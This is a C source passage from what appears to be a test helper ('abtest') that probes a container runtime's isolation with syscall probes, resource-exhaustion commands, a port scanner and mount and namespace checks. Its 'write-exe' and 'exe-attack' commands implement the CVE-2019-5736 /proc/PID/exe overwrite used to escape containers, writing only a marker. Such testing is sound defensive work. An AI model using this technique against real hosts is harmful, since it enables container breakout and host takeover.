    sleep_forever ();
  rc = ptrace (PTRACE_ATTACH, target, NULL, NULL);
  e = errno;
  if (rc == 0)
    {
      waitpid (target, NULL, __WALL);
      ptrace (PTRACE_DETACH, target, NULL, NULL);
    }
  if (argc <= 1)
    {
      kill (target, SIGKILL);
      waitpid (target, NULL, 0);
    }
  return report (rc, e);
}

/* Each probe passes arguments the kernel rejects after its permission checks
   (bad pointers, bad magic, missing paths), so an allowed call (EINVAL,
   EFAULT, ENOENT ...) is told apart from a refused one (EPERM from a
   capability check, or whatever a seccomp filter returns), and a call
   allowed by mistake still changes nothing. */
#define NOPATH ((long)"/abtest-nonexistent")
static const struct
{
  const char *name;
  long nr, a[6];
} syscall_probes[] = {
  /* clang-format off */
  { "getpid", SYS_getpid, { 0 } },          { "keyctl", SYS_keyctl, { 0x7fff } },
  { "add_key", SYS_add_key, { 0 } },        { "request_key", SYS_request_key, { 0 } },
  { "bpf", SYS_bpf, { -1 } },               { "perf_event_open", SYS_perf_event_open, { 0, 0, -1, -1 } },
  { "userfaultfd", SYS_userfaultfd, { O_CLOEXEC } },              { "unshare", SYS_unshare, { 0 } },
  { "mount", SYS_mount, { 0 } },            { "umount2", SYS_umount2, { NOPATH } },
  { "ptrace", SYS_ptrace, { 0x7fff } },     { "kexec_load", SYS_kexec_load, { 0, 0, 0, 0x7fff0000 } },
  { "init_module", SYS_init_module, { 0 } },                      { "finit_module", SYS_finit_module, { -1, (long) "" } },
  { "delete_module", SYS_delete_module, { NOPATH, O_NONBLOCK } }, { "open_by_handle_at", SYS_open_by_handle_at, { -1 } },
  { "name_to_handle_at", SYS_name_to_handle_at, { AT_FDCWD, (long) "/" } },
  { "reboot", SYS_reboot, { 0 } },          { "swapon", SYS_swapon, { NOPATH } },
  { "swapoff", SYS_swapoff, { NOPATH } },   { "acct", SYS_acct, { NOPATH } },
  { "pivot_root", SYS_pivot_root, { NOPATH, NOPATH } },           { "setns", SYS_setns, { -1 } },
  { "clone3", SYS_clone3, { 0 } },          { "io_uring_setup", SYS_io_uring_setup, { 0 } },
  { "quotactl", SYS_quotactl, { 0 } },      { "fsopen", SYS_fsopen, { 0 } },
  { "open_tree", SYS_open_tree, { -1 } },   { "move_mount", SYS_move_mount, { -1, 0, -1 } },
  { "mount_setattr", SYS_mount_setattr, { -1 } },                 { "chroot", SYS_chroot, { NOPATH } },
  { "syslog", SYS_syslog, { 10 } },         /* SYSLOG_ACTION_SIZE_BUFFER: only reads */
  { "personality", SYS_personality, { 0xffffffff } },            /* a query */
  { "process_vm_readv", SYS_process_vm_readv, { 0 } },
  { "settimeofday", SYS_settimeofday, { 0 } },                    { "clock_settime", SYS_clock_settime, { -1 } },
#ifdef SYS_iopl
  { "iopl", SYS_iopl, { 4 } },              { "ioperm", SYS_ioperm, { 0 } },
#endif
  /* clang-format on */
};

/* syscall NAME...: "NAME=ok|ERRNO" per name; exit 0 only if all were allowed. */
static int
cmd_syscall (int argc, char **argv)
{
  int rc = 0;

  for (int i = 1; i < argc; i++)
    {
      size_t k;
      long r;
      for (k = 0; k < N_ELEM (syscall_probes) && !IS (argv[i], syscall_probes[k].name); k++)
        ;
      if (k == N_ELEM (syscall_probes))
        usage_error ("syscall: no probe for `%s`", argv[i]);
      const long *a = syscall_probes[k].a;
      r = syscall (syscall_probes[k].nr, a[0], a[1], a[2], a[3], a[4], a[5]);
      printf ("%s=%s\n", argv[i], r >= 0 ? "ok" : errname (errno));
      if (r < 0)
        rc = EXIT_REFUSED;
      else if (IS (argv[i], "userfaultfd"))
        close ((int)r);
    }
  return rc;
}

/* ---- isolation probes ------------------------------------------------------------ */

/* try-exec PATH [ARGS...]: execve PATH; on failure the errno name (a noexec
   mount answers EACCES). */
static int
cmd_try_exec (int argc, char **argv)
{
  int e;

  execve (argv[1], argv + 1, environ);
  e = errno;
  return report (-1, e);
}

/* fill PATH: write 64 KiB blocks to PATH until a write fails; prints the
   bytes written and the errno that stopped it (ENOSPC at a tmpfs size). */
static int
cmd_fill (int argc, char **argv)
{
  static char block[65536];
  long long total = 0;
  int fd = open (argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644), e = 0;

  if (fd < 0)
    return report (-1, errno);
  memset (block, 'x', sizeof block);
  for (;;)
    {
      ssize_t w = write (fd, block, sizeof block);
      if (w < 0 && errno == EINTR)
        continue;
      if (w < 0)
        {
          e = errno;
          break;
        }
      total += w; /* after a short write, the next one says why */
    }
  close (fd);
  printf ("bytes=%lld\nerrno=%s\n", total, errname (e));
  return e == ENOSPC ? 0 : EXIT_REFUSED;
}

static const char exe_marker[] = "ABTEST-OVERWROTE-THE-EXE";

/* Whether the file behind fd is not what its path names inside this
   container: the executable of a process that came from outside (a memfd,
   a host file), never one of the container's own files, which the attack
   must not damage. */
static bool
exe_from_outside (int fd, const char *target)
{
  struct stat a, b;

  if (fstat (fd, &a) < 0)
    return false;
  if (strncmp (target, "/memfd:", 7) == 0)
    return true;
  return stat (target, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino;
}

/* Reopen an O_PATH fd for writing through /proc/self/fd and write the
   marker at offset 0 (CVE-2019-5736).  Returns 0, or the errno. */
static int
overwrite_through (int pathfd, bool *opened)
{
  char path[64];
  int fd, e = 0;

  snprintf (path, sizeof path, "/proc/self/fd/%d", pathfd);
  *opened = false;
  fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return errno;
  *opened = true;
  if (pwrite (fd, exe_marker, sizeof exe_marker - 1, 0) < 0)
    e = errno;
  close (fd);
  return e;
}

/* write-exe PID: try to overwrite the executable of PID through
   /proc/PID/exe, directly and by reopening an O_PATH fd (CVE-2019-5736).
   Prints target=, open_wronly=, opath=, reopen_write=; exit 0 only if a
   write got through. */
static int
cmd_write_exe (int argc, char **argv)
{
  char path[64], target[PATH_MAX] = "";
  int fd, pathfd, rc = EXIT_REFUSED;
  ssize_t n;
  bool opened;

  snprintf (path, sizeof path, "/proc/%s/exe", argv[1]);
  if ((n = readlink (path, target, sizeof target - 1)) >= 0)
    target[n] = '\0';
  printf ("target=%s\n", n >= 0 ? target : errname (errno));
  fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      int e = pwrite (fd, exe_marker, sizeof exe_marker - 1, 0) < 0 ? errno : 0;
      printf ("open_wronly=ok\nwrite=%s\n", e ? errname (e) : "ok");
      rc = e ? rc : 0;
      close (fd);
    }
  else
    printf ("open_wronly=%s\n", errname (errno));
  pathfd = open (path, O_PATH | O_CLOEXEC);
  printf ("opath=%s\n", pathfd >= 0 ? "ok" : errname (errno));
  if (pathfd >= 0)
    {
      int e = overwrite_through (pathfd, &opened);
      printf ("reopen_write=%s\n", e ? errname (e) : "ok");
      rc = e ? rc : 0;
      close (pathfd);
    }
  return rc;
}

/* exe-attack MS [STOPFILE]: for MS milliseconds (or until STOPFILE
   exists), watch every process of the pid namespace and try to overwrite
   the executable of each one that came from outside the container (an
   `exec` of the runtime joining us), as the CVE-2019-5736 exploit does: grab
   /proc/PID/exe as an O_PATH fd and keep reopening it for writing.  Prints
   counters; exit 0 only if a write got through. */
static int
cmd_exe_attack (int argc, char **argv)
{
  enum
  {
    MAX_HELD = 256
  };
  struct timespec t0, now;
  long ms = (long)num (argv[1]);
  long scans = 0, seen = 0, outside = 0, opened_wr = 0, written = 0;
  int held[MAX_HELD], n_held = 0;
  pid_t self = getpid ();

  clock_gettime (CLOCK_MONOTONIC, &t0);
  do
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;
      if (d == NULL)
        die ("opendir /proc");
      while ((de = readdir (d)) != NULL)
        {
          char path[64], target[PATH_MAX];
          int pid = atoi (de->d_name), fd;
          ssize_t n;
          if (pid <= 0 || pid == self)
            continue;
          seen++;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          if ((fd = open (path, O_PATH | O_CLOEXEC)) < 0)
            continue;
          n = readlink (path, target, sizeof target - 1);
          target[n > 0 ? n : 0] = '\0';
          if (!exe_from_outside (fd, target) || n_held == MAX_HELD)
            {
              close (fd);
              continue;
            }
          outside++;
          held[n_held++] = fd;
        }
      closedir (d);
      /* The exploit's second half: the runtime has moved on, the file is no
         longer busy, reopen it for writing. */
      for (int i = 0; i < n_held; i++)
        {
          bool opened;
          if (overwrite_through (held[i], &opened) == 0)
            written++;
          opened_wr += opened;
        }
      scans++;
      clock_gettime (CLOCK_MONOTONIC, &now);
    }
  while ((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 < ms
         && (argc < 3 || access (argv[2], F_OK) < 0));
  printf ("scans=%ld\nseen=%ld\noutside=%ld\nopened_wr=%ld\nwritten=%ld\n", scans, seen, outside, opened_wr,
          written);
  return written ? 0 : EXIT_REFUSED;
}

/* ---- dispatch ---------------------------------------------------------------------- */

static const struct
{
  const char *name;
  int min_args;
  int (*fn) (int argc, char **argv);
  const char *usage;
} commands[] = {
  /* clang-format off */
  { "true", 0, cmd_exit, "" },              { "false", 0, cmd_exit, "" },
  { "exit", 1, cmd_exit, "N" },             { "kill-self", 1, cmd_kill_self, "SIG" },
  { "sleep", 1, cmd_sleep, "SECS" },        { "sleep-forever", 0, cmd_sleep, "" },
  { "wait-signal", 1, cmd_wait_signal, "SIG..." },          { "orphan-writer", 2, cmd_orphan_writer, "PATH MS" },
  { "wait-signalfd", 1, cmd_wait_signalfd, "SIG..." },
  { "setsid-sleeper", 0, cmd_setsid_sleeper, "" },          { "forkbomb", 0, cmd_forkbomb, "[MAX]" },
  { "memhog", 1, cmd_memhog, "MB" },        { "threads", 1, cmd_threads, "N" },
  { "echo", 0, cmd_echo, "ARGS..." },       { "cat", 1, cmd_cat, "FILE" },
  { "write", 2, cmd_path_op, "FILE DATA" }, { "ls", 1, cmd_ls, "DIR" },
  { "stat", 1, cmd_stat, "PATH" },          { "readlink", 1, cmd_readlink, "PATH" },
  { "mkdir", 1, cmd_path_op, "PATH [MODE]" },               { "touch", 1, cmd_path_op, "PATH" },
  { "write-bytes", 1, cmd_write_bytes, "N [binary|text|control]" },
  { "stderr-bytes", 1, cmd_write_bytes, "N [binary|text|control]" },
  { "read-stdin", 0, cmd_read_stdin, "" },  { "sysctl", 1, cmd_sysctl, "NAME" },
  { "status", 0, cmd_status, "" },          { "ns", 0, cmd_ns, "" },
  { "cwd", 0, cmd_cwd, "" },                { "fds", 0, cmd_fds, "" },
  { "env", 0, cmd_env, "" },                { "getuid", 0, cmd_getuid, "" },
  { "keyring", 0, cmd_keyring, "" },
  { "hostname", 0, cmd_uname, "" },         { "domainname", 0, cmd_uname, "" },
  { "rlimits", 0, cmd_rlimits, "" },        { "sigmask", 0, cmd_sigmask, "" },
  { "tty", 0, cmd_tty, "" },                { "pidns", 0, cmd_pidns, "" },
  { "connect", 3, cmd_connect, "tcp|udp ADDR PORT" },       { "ping4", 1, cmd_ping, "ADDR" },
  { "scan", 4, cmd_scan, "tcp|udp ADDR FIRST COUNT" },
  { "ping6", 1, cmd_ping, "ADDR" },         { "try-mount", 0, cmd_try_mount, "[TARGET]" },
  { "try-unshare", 0, cmd_try_ns, "[NS]" }, { "try-setns", 0, cmd_try_ns, "[NSFILE]" },
  { "try-ptrace", 0, cmd_try_ptrace, "[PID]" },             { "try-chroot", 0, cmd_path_op, "[DIR]" },
  { "try-sethostname", 0, cmd_path_op, "[NAME]" },          { "open-dev", 1, cmd_path_op, "PATH" },
  { "syscall", 1, cmd_syscall, "NAME..." },
  { "try-exec", 1, cmd_try_exec, "PATH [ARGS...]" },        { "fill", 1, cmd_fill, "PATH" },
  { "write-exe", 1, cmd_write_exe, "PID" },                 { "exe-attack", 1, cmd_exe_attack, "MS [STOPFILE]" },
  /* clang-format on */
};

int
main (int argc, char **argv)
{
  bool help = argc > 1 && IS (argv[1], "--help");
  FILE *out = help ? stdout : stderr;
  size_t i;

  /* Line-buffered even into a pipe or file: "ready" and pid lines must reach
     the test before abtest blocks or dies. */
  setvbuf (stdout, NULL, _IOLBF, 0);
  for (i = 0; argc > 1 && i < N_ELEM (commands); i++)
    if (IS (argv[1], commands[i].name))
      {
        if (argc - 2 < commands[i].min_args)
          usage_error ("usage: abtest %s %s", commands[i].name, commands[i].usage);
        return commands[i].fn (argc - 1, argv + 1);
      }
  if (argc > 1 && !help)
    fprintf (stderr, "abtest: unknown command `%s`\n", argv[1]);
  fprintf (out, "Usage: abtest CMD [ARGS...]\n");
  for (i = 0; i < N_ELEM (commands); i++)
    fprintf (out, "  %s %s\n", commands[i].name, commands[i].usage);
  return help ? 0 : EXIT_USAGE;
}
